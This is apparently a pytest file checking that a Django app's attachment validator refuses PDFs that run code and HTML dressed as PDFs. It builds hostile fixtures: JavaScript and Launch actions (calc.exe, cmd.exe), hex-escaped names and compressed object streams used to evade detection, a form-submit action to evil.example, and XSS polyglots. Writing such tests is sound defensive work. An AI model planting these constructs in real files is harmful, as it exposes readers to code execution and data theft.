"""Attachments: PDFs that run code and HTML in PDF clothing are refused (issue 10 #7)."""

import io
import zlib

import pytest
import pypdf
from django.core.exceptions import ValidationError
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from apps.media import actions
from apps.media.documents import DocumentRejected, sniff_document
from tests.media import samples


def written(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def plain_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    return written(writer)


def with_catalog_entry(key, value) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    writer._root_object[NameObject(key)] = value
    return written(writer)


def action(kind, **entries):
    d = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for k, v in entries.items():
        d[NameObject(f"/{k}")] = v
    return d


def js_document_level() -> bytes:
    """A document-level script in the catalog's /Names /JavaScript tree."""
    script = action("/JavaScript", JS=TextStringObject("app.alert('x');"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), script])})
    return with_catalog_entry("/Names", DictionaryObject({NameObject("/JavaScript"): tree}))


def page_additional_action() -> bytes:
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(200, 200)
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/JavaScript", JS=TextStringObject("app.alert(1)"))})
    return written(writer)


def hex_escaped_names() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def hidden_in_a_compressed_object_stream() -> bytes:
    body = zlib.compress(b"4 0 <</S/Launch/F(cmd.exe)>>")
    return (b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            + b"3 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length " + str(len(body)).encode() + b">>stream\n"
            + body + b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


ACTIVE = {
    "document JavaScript": js_document_level,
    "OpenAction JavaScript": lambda: with_catalog_entry("/OpenAction", action("/JavaScript", JS=TextStringObject("app.alert(1)"))),
    "OpenAction Launch": lambda: with_catalog_entry("/OpenAction", action("/Launch", F=TextStringObject("calc.exe"))),
    "catalog AA SubmitForm": lambda: with_catalog_entry("/AA", DictionaryObject({
        NameObject("/WC"): action("/SubmitForm", F=TextStringObject("https://evil.example/"))})),
    "page AA JavaScript": page_additional_action,
    "hex-escaped names": hex_escaped_names,
    "compressed object stream": hidden_in_a_compressed_object_stream,
}


@pytest.mark.parametrize("make", ACTIVE.values(), ids=ACTIVE.keys())
def test_pdfs_that_run_code_are_refused_with_a_chinese_reason(make):
    with pytest.raises(DocumentRejected) as caught:
        sniff_document(make(), "notice.pdf")
    assert caught.value.code == "pdf_script"
    assert "脚本" in caught.value.message


HTML = {
    "html between pdf markers": b"%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n",
    "html before the header": b"<html><script>alert(1)</script>\n" + samples.pdf_bytes(),
    "svg polyglot": samples.pdf_bytes()[:-6] + b"<svg onload=alert(1)>\n%%EOF\n",
}


@pytest.mark.parametrize("data", HTML.values(), ids=HTML.keys())
def test_html_wrapped_in_pdf_markers_is_refused(data):
    with pytest.raises(DocumentRejected) as caught:
        sniff_document(data, "notice.pdf")
    assert caught.value.code == "html"
    assert "HTML" in caught.value.message


def test_ordinary_pdfs_with_a_view_destination_and_a_web_link_are_accepted():
    assert sniff_document(plain_pdf(), "a.pdf") == "pdf"
    assert sniff_document(samples.pdf_bytes(), "a.pdf") == "pdf"
    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(200, 200)
    writer._root_object[NameObject("/OpenAction")] = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
        NameObject("/A"): action("/URI", URI=TextStringObject("https://www.gov.cn/")),
    })
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    assert sniff_document(written(writer), "a.pdf") == "pdf"


def test_the_upload_action_refuses_a_pdf_with_javascript(make_user, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    with pytest.raises(ValidationError) as caught:
        actions.validate_attachment(samples.upload(js_document_level(), "通知.pdf"))
    assert "脚本" in str(caught.value)
